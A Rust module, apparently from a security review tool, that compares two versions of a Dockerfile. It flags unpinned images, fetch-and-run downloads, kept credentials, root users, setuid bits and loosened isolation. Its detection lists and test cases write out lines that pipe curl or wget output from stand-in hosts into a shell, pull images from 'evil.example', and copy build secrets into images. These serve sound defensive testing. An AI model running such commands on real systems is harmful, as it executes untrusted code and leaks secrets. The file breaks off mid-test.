//! Dockerfiles as BuildKit reads them: which images an image is made from, as whom it runs, what
//! its build fetches, sees, and is kept from.

use std::collections::{BTreeMap, BTreeSet};

use parse_dockerfile::{
    Command as Form, Dockerfile, Flag, FromInstruction, Instruction, RunInstruction, Source,
};

use super::Finding;
use crate::rules;
use crate::shell::{self, Command, SHELLS};

/// Programs that fetch what they are given.
const FETCHERS: &[&str] =
    &["curl", "wget", "fetch", "aria2c", "axel", "lynx", "iwr", "irm", "invoke-webrequest", "ftp"];

/// Programs other than shells that run what they are given.
const INTERPRETERS: &[&str] = &[
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "lua",
    "pwsh",
    "powershell",
    "iex",
    "source",
    ".",
    "eval",
    "exec",
];

/// Programs that leave a copy of what they are given.
const COPIERS: &[&str] =
    &["cp", "mv", "install", "tee", "dd", "ln", "rsync", "tar", "base64", "scp", "xxd", "gzip"];

/// Parts of a name that say that a variable holds a credential, as BuildKit's own check has them.
const SECRET_WORDS: &[&str] = &[
    "apikey",
    "auth",
    "credential",
    "credentials",
    "key",
    "password",
    "pword",
    "passwd",
    "pass",
    "secret",
    "token",
];

/// What a build does: under the rule that it concerns and a key that says what it is about, the
/// 0-based line and a sentence.
type Facts = BTreeMap<(&'static str, String), (usize, String)>;

/// What one version of a Dockerfile means.
#[derive(Debug, Default)]
struct Build {
    facts: Facts,
    /// As whom each stage runs at its end, by the stage's name; the last one is also `""`.
    users: BTreeMap<String, (usize, Option<String>)>,
    /// Images that are pinned by a digest.
    pinned: BTreeSet<String>,
    unpinned: BTreeMap<String, usize>,
    /// Whether the last stage has a health check.
    healthcheck: bool,
    /// URLs that are fetched with a checksum.
    checked: BTreeSet<String>,
}

/// What the change makes the build do that it did not do before.
pub(super) fn compare(before: &str, after: &str) -> Vec<Finding> {
    let Some(new) = Build::read(after) else {
        return vec![Finding::new(rules::IMAGE_BASE, "the file cannot be read as a Dockerfile")];
    };
    let fresh = before.trim().is_empty();
    let old = Build::read(before).unwrap_or_default();
    let mut found: Vec<Finding> = new
        .facts
        .iter()
        .filter(|(key, _)| !old.facts.contains_key(*key))
        .map(|((rule, _), (line, detail))| Finding {
            rule,
            line: Some(*line),
            detail: detail.clone(),
        })
        .collect();
    let at = |rule, line: usize, detail: String| Finding { rule, line: Some(line), detail };
    for (image, line) in &new.unpinned {
        if old.pinned.contains(image) {
            let detail = format!("`{image}` is no longer pinned by its digest");
            found.push(at(rules::IMAGE_BASE, *line, detail));
        }
    }
    for url in old.checked.difference(&new.checked) {
        if new.facts.contains_key(&(rules::IMAGE_DOWNLOAD, url.clone())) {
            let detail = format!("`{url}` is fetched without its checksum");
            found.push(Finding::new(rules::IMAGE_DOWNLOAD, detail));
        }
    }
    for (stage, (line, user)) in &new.users {
        let was = old.users.get(stage).map(|(_, user)| user);
        if fresh && user.is_none() {
            continue;
        }
        if let Some(detail) = lost_user(was, user.as_deref()) {
            found.push(at(rules::IMAGE_USER, *line, detail));
        }
    }
    if old.healthcheck && !new.healthcheck {
        found.push(Finding::new(rules::IMAGE_HEALTH, "the image has no health check any more"));
    }
    found.sort();
    found.dedup();
    found
}

/// What is lost between the users of a stage before (`None`: there was no such stage) and after.
fn lost_user(was: Option<&Option<String>>, is: Option<&str>) -> Option<String> {
    let was = was.and_then(|user| user.as_deref());
    if was == is || was.is_some_and(is_root) {
        return None;
    }
    match is {
        Some(user) if is_root(user) => Some(format!("the image runs as `{user}`")),
        Some(user) if user.contains('$') && was.is_some() => {
            Some(format!("the image runs as `{user}`, which the file does not say"))
        }
        None => was.map(|was| format!("the image runs as the base's user, no longer as `{was}`")),
        Some(_) => None,
    }
}

/// `root`, `0`, `0:0`, `ContainerAdministrator`
fn is_root(user: &str) -> bool {
    let name = user.split(':').next().unwrap_or_default().trim();
    name.is_empty()
        || name.eq_ignore_ascii_case("root")
        || name.eq_ignore_ascii_case("containeradministrator")
        || name.parse::<u64>() == Ok(0)
}

/// Registry and repository of an image reference, in full: `docker.io/library/python`.
pub(crate) fn repository(image: &str) -> String {
    let image = image.split('@').next().unwrap_or(image);
    let place = match image.rsplit_once(':') {
        Some((place, tag)) if !tag.contains('/') => place,
        Some(_) | None => image,
    };
    let place = place.trim_end_matches('/').to_lowercase();
    match place.split_once('/') {
        Some(("index.docker.io", rest)) => format!("docker.io/{rest}"),
        Some((first, _)) if first.contains(['.', ':']) || first == "localhost" => place,
        Some(_) => format!("docker.io/{place}"),
        None => format!("docker.io/library/{place}"),
    }
}

/// An instruction that installs packages, as [`crate::shapes`] looks at it: its name in capitals,
/// and its text with continuations and comments resolved.
pub(crate) fn instructions(text: &str) -> Option<Vec<(String, String)>> {
    let docker = parse_dockerfile::parse(text).ok()?;
    let mut spans: Vec<usize> = docker.instructions.iter().map(start_of).collect();
    spans.push(text.len());
    let escape = docker.parser_directives.escape.as_ref().map_or('\\', |it| it.value.value);
    let has_heredoc = docker.instructions.iter().any(|it| match it {
        Instruction::Run(run) => !run.here_docs.is_empty(),
        Instruction::Copy(copy) => copy.src.iter().any(|it| matches!(it, Source::HereDoc(_))),
        Instruction::Add(add) => add.src.iter().any(|it| matches!(it, Source::HereDoc(_))),
        _ => false,
    });
    if has_heredoc {
        return None;
    }
    Some(
        spans
            .windows(2)
            .map(|span| {
                let whole = joined(text.get(span[0]..span[1]).unwrap_or_default(), escape);
                let (name, rest) = whole.split_once(char::is_whitespace).unwrap_or((&whole, ""));
                let rest = rest.replace("\\\n", " ");
                (name.to_uppercase(), rest.split_whitespace().collect::<Vec<_>>().join(" "))
            })
            .collect(),
    )
}

/// Without the comment lines between continued ones, and with the shell's continuations.
fn joined(text: &str, escape: char) -> String {
    let mut lines = text.lines().filter(|line| !line.trim_start().starts_with('#')).peekable();
    let mut out = String::with_capacity(text.len());
    while let Some(line) = lines.next() {
        match line.trim_end().strip_suffix(escape) {
            Some(start) => {
                out.push_str(start);
                out.push_str("\\\n");
            }
            None => {
                out.push_str(line);
                if lines.peek().is_some() {
                    out.push('\n');
                }
            }
        }
    }
    out
}

fn start_of(instruction: &Instruction<'_>) -> usize {
    match instruction {
        Instruction::Add(it) => it.add.span.start,
        Instruction::Arg(it) => it.arg.span.start,
        Instruction::Cmd(it) => it.cmd.span.start,
        Instruction::Copy(it) => it.copy.span.start,
        Instruction::Entrypoint(it) => it.entrypoint.span.start,
        Instruction::Env(it) => it.env.span.start,
        Instruction::Expose(it) => it.expose.span.start,
        Instruction::From(it) => it.from.span.start,
        Instruction::Healthcheck(it) => it.healthcheck.span.start,
        Instruction::Label(it) => it.label.span.start,
        Instruction::Maintainer(it) => it.maintainer.span.start,
        Instruction::Onbuild(it) => it.onbuild.span.start,
        Instruction::Run(it) => it.run.span.start,
        Instruction::Shell(it) => it.shell.span.start,
        Instruction::Stopsignal(it) => it.stopsignal.span.start,
        Instruction::User(it) => it.user.span.start,
        Instruction::Volume(it) => it.volume.span.start,
        Instruction::Workdir(it) => it.workdir.span.start,
        _ => 0,
    }
}

impl Build {
    /// `None` when BuildKit would not read it.
    fn read(text: &str) -> Option<Self> {
        let docker = parse_dockerfile::parse(text).ok()?;
        Some(Reader::new(text, &docker).read(&docker))
    }
}

/// Reads a Dockerfile from the top, with the variables that hold where it is.
struct Reader<'a> {
    text: &'a str,
    escape: char,
    build: Build,
    globals: BTreeMap<String, String>,
    variables: BTreeMap<String, String>,
    /// The stages so far, by their names in lower case or their positions: as each is at its end.
    /// Of those with one name, the last counts.
    stages: BTreeMap<String, Stage>,
    /// The name of the stage at hand.
    name: String,
    stage: Stage,
    count: usize,
    line: usize,
}

/// What a stage passes on to those that are made from it.
#[derive(Debug, Clone, Default)]
struct Stage {
    user: Option<String>,
    healthcheck: bool,
}

impl<'a> Reader<'a> {
    fn new(text: &'a str, docker: &Dockerfile<'_>) -> Self {
        Self {
            text,
            escape: docker.parser_directives.escape.as_ref().map_or('\\', |it| it.value.value),
            build: Build::default(),
            globals: BTreeMap::new(),
            variables: BTreeMap::new(),
            stages: BTreeMap::new(),
            name: String::new(),
            stage: Stage::default(),
            count: 0,
            line: 0,
        }
    }

    fn read(mut self, docker: &Dockerfile<'_>) -> Build {
        if let Some(frontend) = &docker.parser_directives.syntax {
            self.image(frontend.value.value, "reads the file");
        }
        let mut offset = 0;
        for instruction in &docker.instructions {
            let start = start_of(instruction).max(offset);
            self.line += self.text[offset..start].matches('\n').count();
            offset = start;
            self.instruction(instruction);
        }
        self.end_stage();
        if self.count > 0 {
            self.build.users.insert(String::new(), (self.line, self.stage.user.clone()));
            self.build.healthcheck = self.stage.healthcheck;
        }
        self.build
    }

    fn fact(&mut self, rule: &'static str, key: impl Into<String>, detail: impl Into<String>) {
        let detail = super::shown(&detail.into());
        self.build.facts.entry((rule, key.into())).or_insert((self.line, detail));
    }

    fn instruction(&mut self, instruction: &Instruction<'_>) {
        match instruction {
            Instruction::From(from) => self.from(from),
            Instruction::Arg(arg) => {
                for (name, value) in assignments(&arg.arguments.value) {
                    self.secret_variable(&name, value.as_deref(), true);
                    if self.count == 0 {
                        let value = value.map(|value| substitute(&value, &self.globals));
                        self.globals.extend(value.map(|value| (name, kept(value))));
                        continue;
                    }
                    let value = value.map(|value| self.resolve(&value));
                    if let Some(value) = value.or_else(|| self.globals.get(&name).cloned()) {
                        self.variables.insert(name, kept(value));
                    }
                }
            }
            Instruction::Env(env) => {
                for (name, value) in assignments(&env.arguments.value) {
                    self.secret_variable(&name, value.as_deref(), false);
                    let value = self.resolve(&value.unwrap_or_default());
                    self.variables.insert(name, kept(value));
                }
            }
            Instruction::Add(add) => {
                self.copied(&add.options);
                let checked = add.options.iter().any(|flag| flag.name.value == "checksum");
                for source in &add.src {
                    let Source::Path(path) = source else { continue };
                    let url = self.word(&path.value);
                    if url.contains("://") || url.starts_with("git@") {
                        if checked {
                            self.build.checked.insert(url.clone());
                        }
                        let detail = format!("`ADD` fetches `{url}`");
                        self.fact(rules::IMAGE_DOWNLOAD, url, detail);
                    } else {
                        self.secret_file(&url);
                    }
                }
            }
            Instruction::Copy(copy) => {
                self.copied(&copy.options);
                for source in &copy.src {
                    if let Source::Path(path) = source {
                        let path = self.word(&path.value);
                        self.secret_file(&path);
                    }
                }
            }
            Instruction::Run(run) => self.run(run),
            Instruction::User(user) => self.stage.user = Some(self.word(&user.arguments.value)),
            Instruction::Healthcheck(check) => {
                self.stage.healthcheck =
                    !matches!(check.arguments, parse_dockerfile::HealthcheckArguments::None { .. });
            }
            Instruction::Onbuild(onbuild) => {
                // It holds for images that are made from this one.
                let stage = self.stage.clone();
                self.instruction(&onbuild.instruction);
                let user = std::mem::replace(&mut self.stage, stage).user;
                if let Some(user) = user.filter(|user| self.stage.user.as_ref() != Some(user))
                    && is_root(&user)
                {
                    let detail = format!("images that are made from this one run as `{user}`");
                    self.fact(rules::IMAGE_USER, format!("onbuild {user}"), detail);
                }
            }
            _ => {}
        }
    }

    fn from(&mut self, from: &FromInstruction<'_>) {
        self.end_stage();
        let image = unquoted(&substitute(&from.image.value, &self.globals));
        match self.stages.get(&image.to_lowercase()) {
            Some(base) => self.stage = base.clone(),
            None => {
                self.stage = Stage::default();
                if image != "scratch" {
                    self.image(&image, "is what the image is made from");
                }
            }
        }
        self.name = from
            .as_
            .as_ref()
            .map_or_else(|| self.count.to_string(), |(_, name)| name.value.to_lowercase());
        self.count += 1;
        self.variables.clear();
    }

    fn end_stage(&mut self) {
        if self.count > 0 {
            self.build.users.insert(self.name.clone(), (self.line, self.stage.user.clone()));
            self.stages.insert(self.name.clone(), self.stage.clone());
        }
    }

    /// Another image's content comes in.
    fn image(&mut self, image: &str, what: &str) {
        let place = repository(image);
        let stage = self.stages.contains_key(&image.to_lowercase());
        if stage || image.parse::<usize>().is_ok() {
            return;
        }
        if image.contains("@sha256:") {
            self.build.pinned.insert(place.clone());
        } else {
            self.build.unpinned.insert(place.clone(), self.line);
        }
        let detail = format!("`{place}` {what}");
        self.fact(rules::IMAGE_BASE, place, detail);
    }

    /// Options of `COPY` and `ADD`.
    fn copied(&mut self, options: &[Flag<'_>]) {
        for flag in options {
            let value = flag.value.as_ref().map_or("", |value| &value.value);
            let value = self.resolve(value);
            match &*flag.name.value {
                "from" => self.image(&value, "is copied from"),
                "chmod" if is_setuid(&value) => {
                    let detail = format!("`--chmod={value}` sets the setuid or setgid bit");
                    self.fact(rules::IMAGE_USER, format!("chmod {value}"), detail);
                }
                _ => {}
            }
        }
    }

    fn run(&mut self, run: &RunInstruction<'_>) {
        let mut targets = Vec::new();
        for flag in &run.options {
            let value = flag.value.as_ref().map_or("", |value| &value.value);
            let value = self.resolve(value);
            match (&*flag.name.value, value.as_str()) {
                ("security", "insecure") => {
                    self.isolation("a `RUN` has all rights of the machine (`--security=insecure`)");
                }
                ("network", "host") => {
                    self.isolation("a `RUN` has the network of the machine (`--network=host`)");
                }
                ("device", _) => {
                    let detail = format!("a `RUN` has a device of the machine (`{value}`)");
                    self.isolation(&detail);
                }
                ("mount", _) => targets.extend(self.mount(&value)),
                _ => {}
            }
        }
        let (commands, text) = match &run.arguments {
            Form::Exec(words) => {
                let words: Vec<String> =
                    words.value.iter().map(|word| word.value.to_string()).collect();
                let text = words.join(" ");
                (shell::command_of(words, 0), text)
            }
            Form::Shell(shell) => {
                let mut text = joined(shell.value, self.escape);
                for body in &run.here_docs {
                    text.push('\n');
                    text.push_str(&body.value);
                }
                (shell::commands(&text), text)
            }
            _ => return,
        };
        self.commands(&commands, &text);
        for target in targets {
            if keeps(&commands, &text, &target) {
                let detail = format!("the build's secret `{target}` is copied into the image");
                self.fact(rules::IMAGE_SECRET, target, detail);
            }
        }
    }

    fn isolation(&mut self, detail: &str) {
        self.fact(rules::IMAGE_ISOLATION, detail, detail);
    }

    /// Where a secret is seen, as its path and its variable.
    fn mount(&mut self, value: &str) -> Vec<String> {
        let options: BTreeMap<&str, &str> =
            value.split(',').map(|option| option.split_once('=').unwrap_or((option, ""))).collect();
        let get = |names: &[&str]| names.iter().find_map(|name| options.get(name)).copied();
        if let Some(image) = get(&["from"]) {
            self.image(image, "is mounted");
        }
        if get(&["type"]) != Some("secret") {
            return Vec::new();
        }
        let path = get(&["target", "dst", "destination"]).map_or_else(
            || format!("/run/secrets/{}", get(&["id"]).unwrap_or_default()),
            str::to_owned,
        );
        let variable = get(&["env"]).map(|name| format!("${name}"));
        std::iter::once(path).chain(variable).collect()
    }

    fn commands(&mut self, commands: &[Command], text: &str) {
        for detail in runs_downloads(commands) {
            self.fact(rules::IMAGE_DOWNLOAD, detail.clone(), detail);
        }
        let hosts: BTreeSet<String> = super::hosts_in(&self.resolve(text)).into_iter().collect();
        for host in hosts {
            let detail = format!("a `RUN` fetches from `{host}`");
            self.fact(rules::IMAGE_DOWNLOAD, format!("host {host}"), detail);
        }
        for command in commands {
            let mode = command.words.iter().skip(1).find(|word| !word.starts_with('-'));
            if command.program() == "chmod" && mode.is_some_and(|mode| is_setuid(mode)) {
                let detail = format!("`{}` sets the setuid or setgid bit", command.words.join(" "));
                self.fact(rules::IMAGE_USER, detail.clone(), detail);
            }
        }
        if text.contains("NOPASSWD") {
            self.fact(rules::IMAGE_USER, "sudo", "sudo asks for no password");
        }
    }

    /// A credential in `ARG` or `ENV` stays in the image, or in its history.
    fn secret_variable(&mut self, name: &str, value: Option<&str>, is_argument: bool) {
        let words: Vec<String> = name.split('_').map(str::to_lowercase).collect();
        let says = words.iter().any(|word| SECRET_WORDS.contains(&word.as_str()))
            && !words.iter().any(|word| matches!(word.as_str(), "public" | "file" | "path" | "id"));
        let given = value.is_some_and(|value| !value.is_empty() && !value.starts_with('$'));
        if says && (given || (is_argument && value.is_none())) {
            let instruction = if is_argument { "ARG" } else { "ENV" };
            let detail = format!("`{instruction} {name}` keeps a credential in the image");
            self.fact(rules::IMAGE_SECRET, name, detail);
        }
    }

    fn secret_file(&mut self, path: &str) {
        let name = path.rsplit('/').next().unwrap_or(path).to_lowercase();
        let holds = matches!(
            name.as_str(),
            ".env"
                | ".npmrc"
                | ".netrc"
                | ".pypirc"
                | "id_rsa"
                | "id_ed25519"
                | "credentials.json"
                | ".git-credentials"
                | "kubeconfig"
                | ".ssh"
                | ".aws"
                | ".docker"
                | ".kube"
        ) || name.starts_with(".env.") && !name.ends_with("example")
            || [".pem", ".key", ".p12", ".pfx", ".jks"].iter().any(|end| name.ends_with(end));
        if holds {
            let detail = format!("`{path}` is copied into the image");
            self.fact(rules::IMAGE_SECRET, path, detail);
        }
    }

    fn resolve(&self, text: &str) -> String {
        substitute(text, &self.variables)
    }

    /// A word as BuildKit takes it: with the values of variables, without quotes.
    fn word(&self, text: &str) -> String {
        unquoted(&self.resolve(text))
    }
}

/// How many commands after one that fetches are looked at.
const MAX_LATER: usize = 100;
/// How much of a variable's value is kept, and how much values may add to one text: each may name
/// others twice.
const MAX_VALUE: usize = 1_000;
const MAX_GROWTH: usize = 1 << 18;

/// `ro"o"t`: without quotes and escapes.
fn unquoted(text: &str) -> String {
    let mut chars = text.chars();
    let mut out = String::with_capacity(text.len());
    while let Some(c) = chars.next() {
        match c {
            '"' | '\'' => {}
            '\\' => out.extend(chars.next()),
            c => out.push(c),
        }
    }
    out
}

/// What fetches and runs in one go, in words.
fn runs_downloads(commands: &[Command]) -> Vec<String> {
    let mut found = Vec::new();
    let detail = |command: &Command| format!("a `RUN` runs what it fetches (`{}`)", short(command));
    let runs = |command: &Command| {
        let program = command.program().to_lowercase();
        SHELLS.contains(&program.as_str()) || INTERPRETERS.contains(&program.as_str())
    };
    let fetches = |command: &Command| FETCHERS.contains(&command.program().to_lowercase().as_str());
    for (index, command) in commands.iter().enumerate() {
        // `sh -c "$(curl …)"`: the commands of a substitution stand before the one that it is for.
        let substituted = command.words.iter().skip(1).any(|word| word.starts_with("$()"));
        let earlier = &commands[index.saturating_sub(MAX_LATER)..index];
        if runs(command)
            && substituted
            && let Some(fetcher) = earlier.iter().find(|command| fetches(command))
        {
            found.push(detail(fetcher));
        }
        if !fetches(command) {
            continue;
        }
        let rest = &commands[index + 1..commands.len().min(index + 1 + MAX_LATER)];
        // Through the commands in between, to the one that runs it.
        let mut piped = command.is_piped();
        for later in rest {
            if !piped {
                break;
            }
            if runs(later) {
                found.push(detail(command));
            }
            piped = later.is_piped();
        }
        let Some(file) = fetched_file(command) else { continue };
        let name = file.rsplit('/').next().unwrap_or(&file).to_owned();
        let is_file = |word: &String| word.rsplit('/').next() == Some(name.as_str());
        let started = rest.iter().any(|later| {
            later.words.first().is_some_and(is_file)
                || runs(later) && later.words.iter().skip(1).any(is_file)
        });
        let verified = rest.iter().any(|later| {
            let program = later.program();
            program.ends_with("sum") || matches!(program, "gpg" | "gpgv" | "cosign" | "minisign")
        });
        if started && !verified {
            found.push(detail(command));
        }
    }
    found
}

fn short(command: &Command) -> String {
    command.words.join(" ").chars().take(100).collect()
}

/// The file that a command fetches into.
fn fetched_file(command: &Command) -> Option<String> {
    let words = &command.words;
    let named = words.iter().enumerate().find_map(|(index, word)| {
        let next = words.get(index + 1).cloned();
        match word.as_str() {
            "-o" | "--output" | "-O" | "--output-document" if command.program() != "curl" => next,
            "-o" | "--output" => next,
            _ => word
                .strip_prefix("--output=")
                .or_else(|| word.strip_prefix("--output-document="))
                .map(str::to_owned)
                // `-fsSLo FILE`
                .or_else(|| {
                    let cluster = word.starts_with('-') && !word.starts_with("--");
                    (cluster && word.ends_with('o')).then_some(next)?
                }),
        }
    });
    named.or_else(|| {
        let url = words.iter().skip(1).rev().find(|word| !word.starts_with('-'))?;
        url.split(['?', '#']).next()?.rsplit('/').next().map(str::to_owned)
    })
}

/// Whether the commands leave a copy of a secret: they copy the file, or print it into another.
fn keeps(commands: &[Command], text: &str, target: &str) -> bool {
    let names = |word: &String| word.contains(target);
    let copies = commands.iter().any(|command| {
        COPIERS.contains(&command.program()) && command.words.iter().skip(1).any(names)
    });
    let printed = text.match_indices(target).any(|(at, _)| {
        let start = text[..at].rfind(['\n', ';', '&', '|', '(']).map_or(0, |start| start + 1);
        let end = text[at..].find(['\n', ';', '&', '|', ')']).map_or(text.len(), |end| at + end);
        let command = text[start..end].trim_start();
        let inside = start > 1 && text[..start].ends_with("$(");
        let prints = ["cat ", "echo ", "printf ", "head ", "tail ", "env", "cp "];
        !inside && command.contains('>') && prints.iter().any(|word| command.starts_with(word))
    });
    copies || printed
}

/// `4755`, `u+s`
fn is_setuid(mode: &str) -> bool {
    let digits = mode.trim_start_matches('0');
    let octal = digits.len() >= 4 && digits.chars().all(|c| ('0'..='7').contains(&c));
    let symbolic = mode.split(',').any(|part| {
        part.split_once(['+', '=']).is_some_and(|(who, what)| {
            who.chars().all(|c| "ugoa".contains(c)) && what.contains('s')
        })
    });
    (octal && matches!(digits.chars().next(), Some('2' | '4' | '6' | '7'))) || symbolic
}

/// `A=b C="d e"`, `A b`, `A`: names with their values.
fn assignments(text: &str) -> Vec<(String, Option<String>)> {
    let mut words = Vec::new();
    let (mut word, mut quote, mut escaped) = (String::new(), None, false);
    for c in text.chars() {
        match (quote, c) {
            _ if escaped => {
                word.push(c);
                escaped = false;
            }
            (_, '\\') => escaped = true,
            (None, '"' | '\'') => quote = Some(c),
            (Some(open), _) if open == c => quote = None,
            (None, c) if c.is_whitespace() => {
                if !word.is_empty() {
                    words.push(std::mem::take(&mut word));
                }
            }
            _ => word.push(c),
        }
    }
    if !word.is_empty() {
        words.push(word);
    }
    // `ENV NAME a value`
    if words.len() > 1 && !words[0].contains('=') {
        let rest = words.split_off(1).join(" ");
        return vec![(words.swap_remove(0), Some(rest))];
    }
    words
        .into_iter()
        .map(|word| match word.split_once('=') {
            Some((name, value)) => (name.to_owned(), Some(value.to_owned())),
            None => (word, None),
        })
        .collect()
}

fn kept(value: String) -> String {
    if value.len() <= MAX_VALUE { value } else { value.chars().take(MAX_VALUE).collect() }
}

/// `$NAME`, `${NAME}`, `${NAME:-default}`, `${NAME:+other}`; what has no value stays as it is.
fn substitute(text: &str, variables: &BTreeMap<String, String>) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let mut closed = true;
    while let Some(at) = rest.find('$').filter(|_| out.len() < text.len() + MAX_GROWTH) {
        out.push_str(&rest[..at]);
        let tail = &rest[at + 1..];
        let is_name = |c: char| c.is_ascii_alphanumeric() || c == '_';
        let braced = tail.strip_prefix('{').filter(|_| closed);
        let end = braced.and_then(|inner| inner.find('}'));
        // Without one after it, there is none after the others either.
        closed &= braced.is_none() || end.is_some();
        if let (Some(inner), Some(end)) = (braced, end) {
            let body = &inner[..end];
            let name_end = body.find(|c: char| !is_name(c)).unwrap_or(body.len());
            let (name, operator) = body.split_at(name_end);
            let value = variables.get(name).filter(|value| !value.is_empty());
            let default = operator.strip_prefix(":-").or_else(|| operator.strip_prefix('-'));
            let other = operator.strip_prefix(":+").or_else(|| operator.strip_prefix('+'));
            match (value, default, other) {
                (Some(_), None, Some(other)) => out.push_str(other),
                (Some(value), _, _) => out.push_str(value),
                (None, Some(default), _) => out.push_str(default),
                (None, None, Some(_)) => {}
                (None, None, None) => out.push_str(&rest[at..at + 2 + end + 1]),
            }
            rest = &inner[end + 1..];
            continue;
        }
        let end = tail.find(|c: char| !is_name(c)).unwrap_or(tail.len());
        match variables.get(&tail[..end]) {
            Some(value) => out.push_str(value),
            None => out.push_str(&rest[at..=at + end]),
        }
        rest = &tail[end..];
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(before: &str, after: &str) -> Vec<&'static str> {
        compare(before, after).into_iter().map(|finding| finding.rule).collect()
    }

    const BASE: &str = "ARG TAG=3.12\nFROM python:${TAG}-slim AS build\nRUN pip install .\nFROM python:3.12-slim\nCOPY --from=build /app /app\nHEALTHCHECK CMD curl -f http://localhost/\nUSER 10001\n";

    #[test]
    fn what_a_build_does_is_compared() {
        for (from, to, rule) in [
            ("FROM python:3.12-slim\n", "FROM evil.example/python:3.12-slim\n", rules::IMAGE_BASE),
            ("FROM python:3.12-slim\n", "FROM mirror/python:3.12-slim\n", rules::IMAGE_BASE),
            ("ARG TAG=3.12\n", "ARG TAG=3.12\nARG B=evil.example/p\n", ""),
            ("FROM python:3.12-slim\n", "FROM docker.io/library/python:3.13\n", ""),
            ("--from=build", "--from=evil.example/x", rules::IMAGE_BASE),
            ("--from=build", "--from=0", ""),
            ("ARG TAG", "# syntax=evil.example/frontend\nARG TAG", rules::IMAGE_BASE),
            ("RUN pip", "ADD https://x.example/a /a\nRUN pip", rules::IMAGE_DOWNLOAD),
            ("RUN pip", "ADD git@x.example:a/b /a\nRUN pip", rules::IMAGE_DOWNLOAD),
            (
                "RUN pip",
                "RUN curl -s x.example/i | \\\n  # why\n  sh\nRUN pip",
                rules::IMAGE_DOWNLOAD,
            ),
            (
                "RUN pip",
                "RUN <<X\ncurl -s x.example/i > /dev/null | cat | bash\nX\nRUN pip",
                rules::IMAGE_DOWNLOAD,
            ),
            (
                "RUN pip",
                "RUN [\"sh\", \"-c\", \"wget -qO- x.example/i | sh\"]\nRUN pip",
                rules::IMAGE_DOWNLOAD,
            ),
            ("RUN pip", "RUN wget x.example/i.sh && sh i.sh\nRUN pip", rules::IMAGE_DOWNLOAD),
            ("RUN pip", "RUN sh -c \"$(curl -fsSL x.example)\"\nRUN pip", rules::IMAGE_DOWNLOAD),
            ("USER 10001\n", "", rules::IMAGE_USER),
            ("USER 10001\n", "USER root\n", rules::IMAGE_USER),
            ("USER 10001\n", "USER 0:0\n", rules::IMAGE_USER),
            ("USER 10001\n", "ARG U=0\nUSER ${U}\n", rules::IMAGE_USER),
            ("USER 10001\n", "USER 10001\nUSER 10002\n", ""),
            ("USER 10001\n", "USER root\nRUN chown x /y\nUSER 10001\n", ""),
            ("RUN pip", "RUN chmod u+s /bin/x\nRUN pip", rules::IMAGE_USER),
            ("COPY --from=build", "COPY --chmod=4755 --from=build", rules::IMAGE_USER),
            ("COPY --from=build", "COPY --chmod=0755 --from=build", ""),
            ("RUN pip", "ENV DB_PASSWORD=x\nRUN pip", rules::IMAGE_SECRET),
            ("RUN pip", "ARG NPM_TOKEN\nRUN pip", rules::IMAGE_SECRET),
            ("RUN pip", "ENV PASSWORD_FILE=/run/secrets/x\nRUN pip", ""),
            ("RUN pip", "COPY .env /app/\nRUN pip", rules::IMAGE_SECRET),
            (
                "RUN pip",
                "RUN --mount=type=secret,id=n cp /run/secrets/n /x\nRUN pip",
                rules::IMAGE_SECRET,
            ),
            (
                "RUN pip",
                "RUN --mount=type=secret,id=n,target=/t cat /t > /x\nRUN pip",
                rules::IMAGE_SECRET,
            ),
            (
                "RUN pip",
                "RUN --mount=type=secret,id=n NPM=$(cat /run/secrets/n) npm ci\nRUN pip",
                "",
            ),
            ("RUN pip", "RUN --security=insecure pip", rules::IMAGE_ISOLATION),
            ("RUN pip", "RUN --network=host pip", rules::IMAGE_ISOLATION),
            ("RUN pip", "RUN --mount=from=evil.example/x,target=/x pip", rules::IMAGE_BASE),
            ("HEALTHCHECK CMD curl -f http://localhost/", "HEALTHCHECK NONE", rules::IMAGE_HEALTH),
            ("RUN pip install .", "RUN pip install \\\n  # all of it\n  .", ""),
            ("USER 10001", "ONBUILD USER 10001", rules::IMAGE_USER),
            ("USER 10001", "ONBUILD USER root\nUSER 10001", rules::IMAGE_USER),
            ("USER 10001", "ONBUILD USER 10002\nUSER 10001", ""),
            ("USER 10001", "USER \"root\"", rules::IMAGE_USER),
            ("USER 10001", "USER ro'o't", rules::IMAGE_USER),
            ("USER 10001", "USER '10001'", ""),
            ("RUN pip", "COPY \".env\" /app/\nRUN pip", rules::IMAGE_SECRET),
            ("HEALTHCHECK", "ONBUILD HEALTHCHECK", rules::IMAGE_HEALTH),
            // A stage has what the one that it is made from has.
            ("USER 10001\n", "USER 10001\nFROM build\n", rules::IMAGE_HEALTH),
            ("USER 10001\n", "USER 10001\nFROM build\nUSER 10001\n", rules::IMAGE_HEALTH),
            (
                "FROM python:3.12-slim\nCOPY --from=build /app /app\nHEALTHCHECK CMD curl -f http://localhost/\nUSER 10001\n",
                "FROM python:3.12-slim AS last\nCOPY --from=build /app /app\nHEALTHCHECK CMD curl -f http://localhost/\nUSER 10001\nFROM build AS other\nFROM last\n",
                "",
            ),
        ] {
            let after = BASE.replace(from, to);
            assert_ne!(after, BASE, "{from}");
            let rules = found(BASE, &after);
            match rule {
                "" => assert!(rules.is_empty(), "{to}: {:?}", compare(BASE, &after)),
                rule => assert!(rules.contains(&rule), "{to}: {:?}", compare(BASE, &after)),
            }
        }
    }

    #[test]
    fn any_part_of_a_file_can_be_compared() {
        let text = format!(
            "{BASE}RUN <<E\ncurl ${{A:-x}} | sh -c \"$(wget é)\"\nE\nADD --checksum=a git@b /c\n"
        );
        for (at, _) in text.char_indices() {
            let _findings = compare(&text[..at], &text[at..]);
            let _findings = compare(BASE, &format!("FROM a\nRUN {}", &text[at..]));
        }
    }

    #[test]
    fn variables_that_double_stay_bounded() {
        let mut text = "FROM a\nARG A=https://x.example/\n".to_owned();
        text.push_str(&"ENV A=$A$A\n".repeat(200));
        text.push_str(&format!("RUN {}\n", "$A".repeat(10_000)));
        assert!(found("FROM a\n", &text).contains(&rules::IMAGE_DOWNLOAD));
    }

    #[test]
    fn every_download_of_an_instruction_counts() {
        let before = "FROM a\nRUN curl -s https://a.example/i | sh\n";
        for (after, expect) in [
            ("RUN curl -s https://a.example/i | sh && curl -s https://a.example/j | sh\n", 1),
            ("RUN curl -s https://a.example/i | sh && curl -s https://a.example/i | sh\n", 0),
            ("RUN curl -s https://a.example/i | sh && echo a\n", 0),
        ] {
            assert_eq!(found(before, &format!("FROM a\n{after}")).len(), expect, "{after}");
        }
    }

    #[test]
